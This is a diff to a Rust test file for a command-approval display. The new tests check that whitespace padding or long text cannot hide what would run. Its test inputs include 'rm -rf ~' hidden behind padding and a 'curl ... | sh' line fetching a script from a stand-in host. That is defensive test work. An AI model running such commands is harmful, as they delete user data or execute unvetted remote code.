@@ -12,7 +12,7 @@ mod markdown;
 use super::*;
 use crate::markdown::units;
 use countersign_port::testkit::{closed, sample_card};
-use countersign_port::{Block, Field, Tone, visible};
+use countersign_port::{Block, Field, Tone, folded, visible};
 use markdown::read;
 use proptest::prelude::*;
 
@@ -51,6 +51,38 @@ fn a_long_command_shows_head_and_tail_and_stands_whole_beside_the_message() {
     let card = with_command(&long);
     insta::assert_snapshot!(picture(&card));
     assert_eq!(draw(&card).files, [File { name: "a7f3-command.txt".into(), text: long }]);
+}
+
+#[test]
+fn padding_pushes_nothing_out_of_sight() {
+    let padded = format!("ls{}{}; rm -rf ~", "\n".repeat(60), " ".repeat(900));
+    let drawn = draw(&with_command(&padded));
+    assert!(
+        drawn.content.contains("⋮ 59 empty lines\n ⋯900 blanks⋯ ; rm -rf ~"),
+        "{}",
+        drawn.content
+    );
+    assert!(drawn.content.contains("All of it is in `a7f3-command.txt`"));
+    assert_eq!(drawn.files, [File { name: "a7f3-command.txt".into(), text: padded }]);
+}
+
+#[test]
+fn long_reasons_take_no_room_from_what_would_run() {
+    let mut card = with_command(&"echo x\n".repeat(900));
+    let lines = "60: curl -s https://x.example/install.sh | sh\n".repeat(5);
+    card.blocks.insert(1, Block::Code { label: "lines to look at".into(), text: lines });
+    let long = |label: &str| Block::Quote { label: label.into(), text: "why ".repeat(2_500) };
+    card.blocks.extend([long("reason"), long("description"), long("prompt")]);
+    let field = |name: &str| Field { name: name.into(), value: "v".repeat(4_000) };
+    card.blocks
+        .push(Block::Fields { fields: ["folder", "host", "worker", "why"].map(field).into() });
+    let drawn = draw(&card);
+    assert!(units(&drawn.content) <= LIMIT);
+    assert!(
+        drawn.content.contains("60: curl -s https://x.example/install.sh | sh"),
+        "{}",
+        drawn.content
+    );
 }
 
 #[test]
@@ -171,7 +203,7 @@ proptest! {
     fn any_command_is_shown_literally_or_head_and_tail_of_it(text in hostile()) {
         let drawn = draw(&with_command(&text));
         prop_assert!(units(&drawn.content) <= LIMIT);
-        let (shown, seen) = (read(&drawn.content), visible(&text));
+        let (shown, seen) = (read(&drawn.content), folded(&visible(&text)));
         if seen.trim().is_empty() {
             prop_assert!(shown.contains("(nothing)"));
         } else if drawn.files.is_empty() {
